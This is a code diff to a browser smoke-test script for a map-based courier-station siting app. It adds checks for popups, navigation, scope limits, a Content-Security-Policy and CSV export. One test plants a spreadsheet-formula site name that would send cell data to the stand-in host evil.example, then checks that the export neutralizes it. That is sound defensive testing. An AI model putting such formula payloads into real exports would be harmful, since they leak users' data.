@@ -20,13 +20,14 @@ import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { messages } from '../src/i18n.js';
+import { CSP } from './csp.mjs';
 
 const BASE_URL = (process.env.BASE_URL || 'http://127.0.0.1:8080').replace(/\/+$/, '');
 const ORIGIN = new URL(BASE_URL).origin;
 const EXPECT_FEATURES = process.env.SMOKE_EXPECT_FEATURES !== '0';
 const SHOT_DIR = resolve(process.env.SCREENSHOT_DIR || fileURLToPath(new URL('./out/', import.meta.url)));
 const TOTAL_MS = Number(process.env.SMOKE_TIMEOUT_MS || 85000);
-const READY_MS = 30000;
+const READY_MS = 60000;
 const LAUNCH_ARGS = [
   '--headless',
   '--no-sandbox',
@@ -104,7 +105,7 @@ function sameOrigin(u) {
 
 /** Waits for window.hexcover.ready (the map's first idle after login). */
 async function waitReady(page) {
-  await page.waitForFunction(() => window.hexcover && window.hexcover.ready, null, { timeout: 20000 });
+  await page.waitForFunction(() => window.hexcover && window.hexcover.ready, null, { timeout: 60000 });
   await page.evaluate(
     (ms) =>
       Promise.race([
@@ -121,8 +122,8 @@ async function openAs(page, role, path = '/') {
   assert(resp && resp.ok(), `GET ${path}: HTTP ${resp && resp.status()}`);
   const btn = page.locator(`#demo-login-buttons [data-demo-role="${role}"]`);
   const which = await Promise.race([
-    btn.waitFor({ state: 'visible', timeout: 15000 }).then(() => 'login'),
-    page.waitForFunction(() => window.hexcover && window.hexcover.me, null, { timeout: 15000 }).then(() => 'in'),
+    btn.waitFor({ state: 'visible', timeout: 45000 }).then(() => 'login'),
+    page.waitForFunction(() => window.hexcover && window.hexcover.me, null, { timeout: 45000 }).then(() => 'in'),
   ]);
   if (which === 'login') await btn.click();
   await waitReady(page);
@@ -146,7 +147,51 @@ function rendered(page, layer) {
 }
 
 const headerText = (page) => page.locator('#header h1').innerText();
-const idle = (page) => page.evaluate(() => new Promise((r) => (window.hexcover.map.loaded() && window.hexcover.map.areTilesLoaded() ? r() : window.hexcover.map.once('idle', r))));
+const idle = (page) =>
+  page.evaluate(
+    () =>
+      new Promise((r) => {
+        const { map } = window.hexcover;
+        if (map.loaded() && map.areTilesLoaded()) return r();
+        map.once('idle', r);
+        setTimeout(r, 20000); // never hang the run on a missed event
+      }),
+  );
+
+/**
+ * A page point over a feature of layer (and not near a site, nor under the panels or a popup), or
+ * null. prop/value: the feature's property must equal value.
+ */
+function findPoint(page, layer, { prop, value, avoid = ['sites-circle'] } = {}) {
+  return page.evaluate(
+    ({ layer, prop, value, avoid }) => {
+      const { map } = window.hexcover;
+      const c = map.getCanvas();
+      const r = c.getBoundingClientRect();
+      const av = avoid.filter((l) => map.getLayer(l));
+      for (let y = 60; y < r.height - 40; y += 16) {
+        for (let x = 60; x < r.width - 40; x += 16) {
+          const f = map.queryRenderedFeatures([x, y], { layers: [layer] })[0];
+          if (!f || (prop && String(f.properties[prop]) !== String(value))) continue;
+          if (av.length && map.queryRenderedFeatures([[x - 10, y - 10], [x + 10, y + 10]], { layers: av }).length) continue;
+          if (document.elementFromPoint(r.left + x, r.top + y) !== c) continue;
+          return { x: r.left + x, y: r.top + y, props: f.properties };
+        }
+      }
+      return null;
+    },
+    { layer, prop, value, avoid },
+  );
+}
+
+/** Popup text must not show internal ids (H3 cells, 15+ digit zone numbers). */
+function assertNoRawIds(txt) {
+  assert(!/\d{12,}/.test(txt) && !/\b8[0-9a-f]{14}\b/.test(txt), `popup shows an internal id: ${txt}`);
+}
+
+async function closePopups(page) {
+  await page.evaluate(() => document.querySelectorAll('.maplibregl-popup-close-button').forEach((b) => b.click()));
+}
 
 async function shot(page, name) {
   const path = join(SHOT_DIR, name);
@@ -168,6 +213,27 @@ async function main() {
     timeout: 20000,
     acceptDownloads: true,
   });
+
+  // The map must run under the server's Content-Security-Policy. Until the server sends one, the
+  // policy of test/csp.mjs is added to the page here; every violation is reported to the test.
+  const cspViolations = [];
+  let serverCSP = null;
+  await context.exposeBinding('__hexcoverCSPViolation', (_src, v) => cspViolations.push(v));
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (e) =>
+      window.__hexcoverCSPViolation(`${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} at ${e.sourceFile || ''}:${e.lineNumber || ''} ${e.sample || ''}`.trim()),
+    );
+  });
+  await context.route(
+    (u) => u.origin === ORIGIN && (u.pathname === '/' || u.pathname === '/index.html'),
+    async (route) => {
+      const res = await route.fetch();
+      const headers = res.headers();
+      if (headers['content-security-policy']) serverCSP = headers['content-security-policy'];
+      else headers['content-security-policy'] = CSP;
+      await route.fulfill({ response: res, headers });
+    },
+  );
 
   const page = context.pages()[0] || (await context.newPage());
   const problems = watch(page);
@@ -237,7 +303,7 @@ async function main() {
     const z0 = await page.evaluate(() => window.hexcover.map.getZoom());
     await page.locator('#summary-table tbody tr').first().click();
     await page.waitForFunction((z) => Math.abs(window.hexcover.map.getZoom() - z) > 0.2, z0, { timeout: 5000 });
-    await page.evaluate(() => new Promise((r) => window.hexcover.map.once('moveend', r)).catch(() => {}));
+    await page.waitForFunction(() => !window.hexcover.map.isMoving(), null, { timeout: 10000 });
     await page.evaluate((c) => window.hexcover.map.jumpTo({ center: c.center, zoom: c.zoom }), await page.evaluate(() => window.hexcover.meta));
   });
 
@@ -272,6 +338,39 @@ async function main() {
     assert(pr.length === 0, pr.join('\n  '));
   });
 
+  await test('heatmap: a click selects the hexagon under it (not the grid); its popup has names and units, no ids', async () => {
+    await closePopups(page);
+    const pt = await findPoint(page, 'activity-fill');
+    assert(pt, 'no activity hexagon to click');
+    await page.mouse.click(pt.x, pt.y);
+    await page.locator('.maplibregl-popup').waitFor({ timeout: 5000 });
+    const txt = await page.locator('.maplibregl-popup').innerText();
+    assert(txt.includes('骑手活动') && txt.includes('骑手时长（骑手·小时）') && !txt.includes('网格长'), `popup: ${txt}`);
+    assertNoRawIds(txt);
+    const focus = await page.evaluate(() => window.hexcover.map.querySourceFeatures('hexcover-picks').some((f) => f.properties.role === 'focus'));
+    assert(focus, 'the clicked hexagon is not outlined');
+    await closePopups(page);
+  });
+
+  await test('heatmap: riders show distinct counts; a filter without data says 无数据, never 0%', async () => {
+    // metric=riders from the test above: the headline is the API's distinct count, not a sum over cells.
+    await page.locator('#headline').waitFor({ timeout: 15000 });
+    const head = await page.locator('#headline').innerText();
+    const m = head.match(/骑手 ([\d,]+) 人/);
+    assert(m && Number(m[1].replace(/,/g, '')) <= 150, `headline "${head}" (the demo has 150 riders)`);
+    // An empty answer (as for weekends in a Monday-only load) must read 无数据.
+    await page.route('**/api/summary?*', (route) =>
+      route.fulfill({ contentType: 'application/json', body: JSON.stringify({ version: 'x', level: 'street', metric: 'riders', total_demand: 0, covered_demand: 0, coverage_pct: 0, rows: [] }) }),
+    );
+    await page.selectOption('#days', 'weekend');
+    await page.locator('#coverage-total.nodata').waitFor({ timeout: 10000 });
+    const kpi = await page.locator('#view-heatmap').innerText();
+    assert(kpi.includes('无数据') && !/覆盖率\s*0(\.0)?%/.test(kpi), `no-data view: ${kpi.slice(0, 200)}`);
+    await page.unroute('**/api/summary?*');
+    await page.selectOption('#days', 'weekday');
+    await page.locator('#summary-table').waitFor({ timeout: 15000 });
+  });
+
   await test('leader: ranked gap zones, read-only; clicking one flies there and shows its figures', async () => {
     await page.click('[data-view-tab="siting"]');
     await page.locator('#gap-list [data-gap]').first().waitFor({ timeout: 10000 });
@@ -280,6 +379,35 @@ async function main() {
     await page.locator('.maplibregl-popup').waitFor({ timeout: 5000 });
     const txt = await page.locator('.maplibregl-popup').innerText();
     assert(txt.includes('缺口区') && txt.includes('最近站点'), `gap popup: ${txt}`);
+    assertNoRawIds(txt);
+    assert(new URL(page.url()).searchParams.get('gap') === '1', `URL ${page.url()}`);
+  });
+
+  await test('siting view: a click on a gap cell selects its zone (rank and names, no ids), not the grid', async () => {
+    await closePopups(page);
+    await idle(page);
+    const pt = await findPoint(page, 'gaps-fill');
+    assert(pt, 'no gap cell to click');
+    await page.mouse.click(pt.x, pt.y);
+    await page.locator('.maplibregl-popup').waitFor({ timeout: 5000 });
+    const txt = await page.locator('.maplibregl-popup').innerText();
+    assert(txt.includes('缺口区') && !txt.includes('网格长'), `popup: ${txt}`);
+    assertNoRawIds(txt);
+    await closePopups(page);
+  });
+
+  await test('the back button steps back through views and selections, forward again', async () => {
+    const view = () => page.evaluate(() => ({ view: window.hexcover.state.view, tab: document.querySelector('.tab.active')?.dataset.viewTab }));
+    await page.click('[data-view-tab="heatmap"]');
+    await page.waitForFunction(() => document.querySelector('.tab.active')?.dataset.viewTab === 'heatmap', null, { timeout: 5000 });
+    await page.goBack();
+    await page.waitForFunction(() => document.querySelector('.tab.active')?.dataset.viewTab === 'siting', null, { timeout: 5000 });
+    assert((await view()).view === 'siting', JSON.stringify(await view()));
+    await page.goForward();
+    await page.waitForFunction(() => document.querySelector('.tab.active')?.dataset.viewTab === 'heatmap', null, { timeout: 5000 });
+    assert(new URL(page.url()).origin === ORIGIN, `left the app: ${page.url()}`);
+    await page.click('[data-view-tab="siting"]');
+    await page.locator('#gap-list').waitFor({ timeout: 10000 });
   });
 
   await test('siting (planner): k numbered markers and the coverage figures from the API', async () => {
@@ -308,21 +436,66 @@ async function main() {
     await page.check('#toggle-activity');
   });
 
+  await test('siting: the URL keeps the run, and a reload restores its results', async () => {
+    assert(new URL(page.url()).searchParams.get('run'), `no run= in ${page.url()}`);
+    const respP = page.waitForResponse((r) => r.url().endsWith('/api/siting'), { timeout: 60000 });
+    await page.reload({ waitUntil: 'domcontentloaded' });
+    await waitReady(page);
+    await respP;
+    await page.locator('#siting-result').waitFor({ timeout: 15000 });
+    const ranks = await page.locator('.pick-marker[data-rank]').evaluateAll((els) => els.map((e) => e.textContent));
+    assert(ranks.join(',') === '1,2,3,4', `markers after reload ${ranks}`);
+    assert(/骑手·小时|人/.test(await page.locator('#pick-list').innerText()), 'gains have no unit');
+  });
+
+  await test('siting: k above the limit and no candidate kind are stated, not silently changed', async () => {
+    await page.fill('#siting-k', '80');
+    await page.locator('#siting-k').dispatchEvent('change');
+    const msg = await page.locator('#k-limit').innerText({ timeout: 5000 });
+    assert(msg.includes('50'), `k limit: ${msg}`);
+    const kinds = await page.locator('[data-kind]').evaluateAll((els) => els.filter((e) => e.checked).map((e) => e.dataset.kind));
+    for (const k of kinds) await page.uncheck(`[data-kind="${k}"]`);
+    let posted = false;
+    const onReq = (r) => r.url().endsWith('/api/siting') && (posted = true);
+    page.on('request', onReq);
+    await page.click('#run-siting');
+    await page.locator('#run-msg').waitFor({ timeout: 5000 });
+    page.off('request', onReq);
+    assert(!posted, 'the run went to the server with no candidate kind');
+    for (const k of kinds) await page.check(`[data-kind="${k}"]`);
+    await page.fill('#siting-k', '4');
+    await page.locator('#siting-k').dispatchEvent('change');
+  });
+
   await test('siting: add a site by clicking the map, re-run, export CSV and GeoJSON, save and reopen a scenario', async () => {
     await page.check('#edit-mode');
     const box = await page.locator('#map').boundingBox();
     await page.mouse.click(box.x + box.width * 0.35, box.y + box.height * 0.6);
     await page.locator('#siting-edits li').first().waitFor({ timeout: 3000 });
+    // A site named like a spreadsheet formula must come out of the CSV neutralized.
+    const EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"grid")';
+    await page.route('**/api/siting', async (route) => {
+      const res = await route.fetch();
+      const body = await res.json();
+      if (body.picks && body.picks[0]) body.picks[0].name = EVIL;
+      await route.fulfill({ response: res, json: body });
+    });
     const respP = page.waitForResponse((r) => r.url().endsWith('/api/siting'));
     await page.click('#run-siting');
     const req = JSON.parse((await respP).request().postData());
     assert(req.add && req.add.length === 1, `request ${JSON.stringify(req)}`);
     await page.locator('#siting-result').waitFor({ timeout: 10000 });
+    await page.unroute('**/api/siting');
     const [csv] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
     const [gj] = await Promise.all([page.waitForEvent('download'), page.click('#export-geojson')]);
     const csvText = readFileSync(await csv.path(), 'utf8');
     const gjObj = JSON.parse(readFileSync(await gj.path(), 'utf8'));
     assert(csvText.includes('rank,id,name') && csvText.split('\n').length >= 5, `csv: ${csvText.slice(0, 200)}`);
+    const csvLines = csvText.replace(/^\ufeff/, '').trim().split(/\r?\n/);
+    assert(csvLines[1].includes(`"'${EVIL.replace(/"/g, '""')}"`), `formula cell not neutralized: ${csvLines[1]}`);
+    assert(!csvLines.some((l) => /^[#=+\-@]/.test(l)), 'a comment or formula row in the CSV');
+    const gainCol = csvLines[0].split(',').findIndex((h) => h.startsWith('gain_'));
+    assert(gainCol > 0 && csvLines.slice(1).every((l) => !/\.\d{2,}/.test(l.split(',').slice(gainCol, gainCol + 3).join(','))), `gains not rounded: ${csvLines.join(' | ')}`);
     assert(gjObj.features.length === 4, `geojson features ${gjObj.features.length}`);
     await page.fill('#scenario-name', 'smoke');
     await page.click('#save-scenario');
@@ -356,6 +529,28 @@ async function main() {
     assert(/得分/.test(txt) && /天/.test(txt), `candidates: ${txt.slice(0, 200)}`);
   });
 
+  await test('grids: the scope shows by name; a click on a grid opens it; no candidates reads 暂无合适人选', async () => {
+    const who = await page.locator('#whoami').innerText();
+    assert(!who.includes('street:'), `scope shown as a code: ${who}`);
+    await closePopups(page);
+    await idle(page);
+    const current = await page.locator('#grid-detail').getAttribute('data-code');
+    const found = await findPoint(page, 'grids-fill', { prop: 'street_code', value: '310107001' });
+    assert(found, 'no grid of the scope to click');
+    await page.route('**/candidates?*', (route) => route.fulfill({ contentType: 'application/json', json: { total: 0, candidates: [] } }));
+    await page.mouse.click(found.x, found.y);
+    await page.waitForFunction((c) => document.querySelector('#grid-detail')?.dataset.code === c, String(found.props.code), { timeout: 10000 });
+    await page.locator('#no-candidates').waitFor({ timeout: 10000 });
+    assert((await page.locator('#no-candidates').innerText()).includes('暂无合适人选'), 'empty list not stated');
+    await page.unroute('**/candidates?*');
+    // Back to the grid chosen above (the back button steps through grids).
+    if (current !== String(found.props.code)) {
+      await page.goBack();
+      await page.waitForFunction((c) => document.querySelector('#grid-detail')?.dataset.code === c, current, { timeout: 10000 });
+    }
+    await page.locator('#candidate-list li').first().waitFor({ timeout: 10000 });
+  });
+
   await test('grids: propose, accept one, and the roster (roster.csv) gains the courier', async () => {
     assert(gridCode, 'no grid chosen');
     const rosterBefore = await page.evaluate((c) => fetch(`/api/grids/${c}/roster.csv`).then((r) => r.text()), gridCode);
@@ -368,6 +563,8 @@ async function main() {
     assert(lines(rosterAfter) === lines(rosterBefore) + 1, `roster lines ${lines(rosterBefore)} → ${lines(rosterAfter)}`);
     const href = await page.locator('#roster-csv').getAttribute('href');
     assert(href.endsWith(`/api/grids/${gridCode}/roster.csv`), `roster link ${href}`);
+    // The accepted courier is marked among the candidates.
+    await page.locator('#candidate-list [data-status="accepted"]').first().waitFor({ timeout: 10000 });
     if ((await page.locator('#proposal-list [data-decline]').count()) > 0) {
       await page.locator('#proposal-list [data-decline]').first().click();
       await page.waitForFunction(() => /已拒绝/.test(document.querySelector('#grid-detail').innerText), null, { timeout: 5000 });
@@ -391,20 +588,28 @@ async function main() {
     await page.waitForFunction(() => document.documentElement.lang === 'zh-CN', null, { timeout: 5000 });
   });
 
-  await test('403 shows a clear message without data (candidates of a grid outside the scope)', async () => {
-    // The demo grid manager's scope is one street; a grid of another street is forbidden.
+  await test('search is limited to the scope; a grid outside it shows a clear 403 message without data', async () => {
+    // The demo grid manager's scope is one street: search lists only its grids, and a grid of
+    // another street opened by link is forbidden.
     await page.fill('#grid-search', '310107002');
-    await page.locator('#grid-results [data-grid]').first().waitFor({ timeout: 5000 });
-    const other = await page.locator('#grid-results [data-grid]').first().getAttribute('data-grid');
+    await page.waitForFunction(() => /范围/.test(document.querySelector('#view-grids').innerText) && !document.querySelector('#grid-results'), null, { timeout: 10000 });
+    const other = await page.evaluate(() => fetch('/api/grids?q=310107002&limit=1').then((r) => r.json()).then((j) => j.grids[0] && j.grids[0].code));
+    assert(other, 'no grid of street 310107002');
     const resp = await page.evaluate((c) => fetch(`/api/grids/${c}/candidates`).then((r) => r.status), other);
     if (resp !== 403) return; // the server lets this manager see it: nothing to check
-    await page.click(`#grid-results [data-grid="${other}"]`);
-    await page.locator('#view-grids .msg-error').first().waitFor({ timeout: 5000 });
+    await page.goto(`${BASE_URL}/?view=grids&grid=${other}`, { waitUntil: 'domcontentloaded' });
+    await waitReady(page);
+    await page.locator('#view-grids .msg-error').first().waitFor({ timeout: 10000 });
     const txt = await page.locator('#view-grids .msg-error').first().innerText();
     assert(txt.includes('无权访问'), `message: ${txt}`);
     assert((await page.locator('#candidate-list').count()) === 0, 'candidates shown despite 403');
     // Expected 403s from this check are not problems.
     for (let i = problems.length - 1; i >= 0; i--) if (/HTTP 403|status of 403/.test(problems[i])) problems.splice(i, 1);
+  });
+
+  await test('no Content-Security-Policy violations (worker, styles, scripts, images)', () => {
+    log(`  CSP: ${serverCSP ? `sent by the server: ${serverCSP}` : `added by the test: ${CSP}`}`);
+    assert(cspViolations.length === 0, `\n  ${[...new Set(cspViolations)].join('\n  ')}`);
   });
 
   await test('no console errors, page errors or failed same-origin requests', () => {
@@ -437,7 +642,7 @@ async function main() {
     const p2 = await context.newPage();
     await p2.route('**/api/meta', (route) => route.fulfill({ status: 500, contentType: 'application/json', body: '{"error":"smoke"}' }));
     await p2.goto(BASE_URL + '/', { waitUntil: 'domcontentloaded' });
-    await p2.waitForFunction(() => window.hexcover && window.hexcover.ready, null, { timeout: 15000 });
+    await p2.waitForFunction(() => window.hexcover && window.hexcover.ready, null, { timeout: 60000 });
     await p2.locator('[role=alert]').first().waitFor({ state: 'visible', timeout: 5000 });
     const c = await p2.evaluate(() => {
       const m = window.hexcover.map.getCenter();
